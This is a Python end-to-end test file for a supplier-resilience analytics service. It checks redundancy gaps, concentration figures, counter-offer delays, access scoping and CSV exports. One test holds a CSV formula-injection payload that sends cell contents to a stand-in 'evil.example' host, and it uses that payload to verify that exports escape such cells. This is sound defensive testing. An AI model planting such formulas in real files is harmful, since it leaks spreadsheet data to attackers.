"""Resilience analytics through the running services: the figures over what the caller may see,
a redundancy gap that closes when a second supplier accepts, a counter-offer's delay and the
rejection it counts as, and the CSV export."""

from __future__ import annotations

import asyncio
import csv
import io
from typing import Any

import httpx
import pytest

from tests.e2e.credentials import OPERATOR, ActingParty, token
from tests.e2e.intake_support import wait_for_view
from tests.e2e.stack import Stack, cli
from tests.e2e.test_walking_skeleton import DPAS_REQUEST

pytestmark = [pytest.mark.e2e, pytest.mark.kafka, pytest.mark.db, pytest.mark.timeout(120)]
OPERATOR_AUTH = {"Authorization": f"Bearer {token(OPERATOR, 'operator')}"}
ITEM = "Periscope mast seal"  # an item no other test names
FIRST, SECOND = "mast-seals-a", "mast-seals-b"  # suppliers no other test names


async def answered(
    client: httpx.AsyncClient,
    stack: Stack,
    supplier: str,
    n: int,
    answer: dict[str, Any],
    item: str = ITEM,
) -> str:
    """A DO-A3 request for `item` (required 2027-03-01) to `supplier`, answered with `answer`."""
    body: dict[str, Any] = {
        **DPAS_REQUEST,
        "supplier": {"party_id": supplier, "name": supplier, "country": "US"},
        "contract_number": f"N00024-26-C-07{n:02d}",
        "items": [{"description": item, "quantity": "4"}],
    }
    posted = await client.post(f"{stack.url('intake')}/v1/priority-requests", json=body)
    assert posted.status_code == 202, posted.text
    url = f"{stack.url('intake')}/v1/priority-requests/{posted.json()['request_id']}"
    async with httpx.AsyncClient(timeout=10, headers=OPERATOR_AUTH) as reader:
        await wait_for_view(reader, url, lambda v: v.get("state") == "routed")
        sent = await client.post(f"{url}/responses", json={"supplier_party_id": supplier, **answer})
        assert sent.status_code == 202, sent.text
        await wait_for_view(reader, url, lambda v: v.get("state") not in ("received", "routed"))
    return url


ACCEPT = {"kind": "accept"}
COUNTER_OFFER = {  # 15 CFR 700.13(b)(1): cannot meet the date; the earliest it can, 31 days late
    "kind": "reject",
    "reason": "MR_B1_CANNOT_MEET_DATE",
    "earliest_delivery_date": "2027-04-01",
    "explanation": "Seal moulds are booked until March.",
}


async def rows(client: httpx.AsyncClient, url: str, **params: str) -> list[dict[str, Any]]:
    found = await client.get(url, params=params)
    assert found.status_code == 200, found.text
    return list(found.json()["rows"])


async def gaps(client: httpx.AsyncClient, stack: Stack) -> list[dict[str, Any]]:
    found = await client.get(
        f"{stack.url('intake')}/v1/analytics/redundancy-gaps", params={"by": "item"}
    )
    assert found.status_code == 200, found.text
    return [g for g in found.json()["rows"] if g["key"] == ITEM.lower()]


async def test_a_gap_closes_when_a_second_supplier_accepts_and_figures_export(
    stack: Stack,
) -> None:
    intake = stack.url("intake")
    async with (
        httpx.AsyncClient(timeout=10, auth=ActingParty()) as parties,
        httpx.AsyncClient(timeout=10, headers=OPERATOR_AUTH) as operator,
    ):
        await answered(parties, stack, FIRST, 1, ACCEPT)
        (gap,) = await gaps(operator, stack)
        assert gap["accepting"] == [FIRST]
        await answered(parties, stack, SECOND, 2, COUNTER_OFFER)
        (still,) = await gaps(operator, stack)  # a counter-offer is not an acceptance
        assert still["accepting"] == [FIRST]
        await answered(parties, stack, SECOND, 3, ACCEPT)
        assert await gaps(operator, stack) == []

        shares = await operator.get(f"{intake}/v1/analytics/concentration", params={"by": "item"})
        (row,) = [r for r in shares.json()["rows"] if r["key"] == ITEM.lower()]
        assert row["shares"] == {FIRST: 1 / 3, SECOND: 2 / 3}
        assert abs(row["hhi"] - 5 / 9) < 1e-9
        assert "sum of squared shares" in shares.json()["method"]
        assert shares.json()["computed_at"]

        # the operators' CLI reads the same figures: a table, or CSV
        shown = await asyncio.to_thread(cli, stack, "analytics", "counter-offers")
        assert shown.returncode == 0, shown.stderr
        (line,) = [x for x in shown.stdout.splitlines() if x.startswith(SECOND)]
        assert line.split() == [SECOND, "1", "31", "31"]
        exported = await asyncio.to_thread(
            cli, stack, "analytics", "concentration", "--by", "item", "--csv"
        )
        assert exported.stdout.startswith("# concentration: "), exported.stderr
        assert f'"{ITEM.lower()}",3,' in exported.stdout

        by_supplier = {
            r["key"]: r
            for r in await rows(operator, f"{intake}/v1/analytics/rates", group_by="supplier")
        }
        assert by_supplier[SECOND]["answered"] == 2
        assert by_supplier[SECOND]["refused"] == 1
        assert by_supplier[SECOND]["rejection_rate"] == 0.5
        assert by_supplier[FIRST]["rejection_rate"] == 0.0
        delays = {
            r["supplier"]: r for r in await rows(operator, f"{intake}/v1/analytics/counter-offers")
        }
        assert (delays[SECOND]["offers"], delays[SECOND]["max_days"]) == (1, 31)
        assert FIRST not in delays
        paths = {r["path"]: r for r in await rows(operator, f"{intake}/v1/analytics/answer-times")}
        assert paths["dpas"]["answered"] >= 3
        assert paths["dpas"]["median_hours"] >= 0

        figures_csv = await operator.get(
            f"{intake}/v1/analytics/concentration", params={"by": "item", "format": "csv"}
        )
        assert figures_csv.headers["content-type"].startswith("text/csv")
        assert f'"{ITEM.lower()}",3,' in figures_csv.text
        assert figures_csv.text.startswith("# concentration: ")

        # a party sees figures over its own requests only: this supplier has none
        stranger = {"Authorization": f"Bearer {token('nobody-inc', 'supplier')}"}
        async with httpx.AsyncClient(timeout=10, headers=stranger) as other:
            theirs = await other.get(f"{intake}/v1/analytics/rates")
        assert theirs.status_code == 200
        assert theirs.json()["requests"] == 0
        bad = await operator.get(f"{intake}/v1/analytics/rates", params={"group_by": "moon"})
        assert bad.status_code == 422
        assert bad.json()["errors"][0]["field"] == "group_by"
        backwards = await operator.get(
            f"{intake}/v1/analytics/rates",
            params={"since": "2026-12-01T00:00:00Z", "until": "2026-11-01T00:00:00Z"},
        )
        assert backwards.status_code == 422
        assert backwards.json()["errors"][0]["field"] == "until"
        future = await operator.get(
            f"{intake}/v1/analytics/concentration", params={"since": "2099-01-01T00:00:00Z"}
        )
        assert future.json()["requests"] == 0
        assert future.json()["period"]["since"].startswith("2099-01-01")


FORMULA_ITEM = '=HYPERLINK("http://evil.example/?"&A1,"Click")'  # issue #23: CSV injection


async def test_an_item_description_starting_with_equals_is_escaped_in_csv_exports(
    stack: Stack,
) -> None:
    """The operator's concentration and redundancy-gaps exports (over every requester) and the
    CLI's --csv give the description as text: prefixed with a single quote, quoted."""
    intake = stack.url("intake")
    async with (
        httpx.AsyncClient(timeout=10, auth=ActingParty()) as parties,
        httpx.AsyncClient(timeout=10, headers=OPERATOR_AUTH) as operator,
    ):
        await answered(parties, stack, "formula-seals", 9, ACCEPT, item=FORMULA_ITEM)
        key = FORMULA_ITEM.lower()
        escaped = "\"'" + key.replace('"', '""') + '"'
        for figure in ("concentration", "redundancy-gaps"):
            found = await operator.get(
                f"{intake}/v1/analytics/{figure}", params={"by": "item", "format": "csv"}
            )
            assert found.status_code == 200, found.text
            assert escaped in found.text, found.text
            parsed = list(csv.reader(io.StringIO(found.text)))
            cells = [c for row in parsed if row and not row[0].startswith("#") for c in row]
            assert "'" + key in cells
            assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
        exported = await asyncio.to_thread(
            cli, stack, "analytics", "redundancy-gaps", "--by", "item", "--csv"
        )
        assert exported.returncode == 0, exported.stderr
        assert escaped in exported.stdout
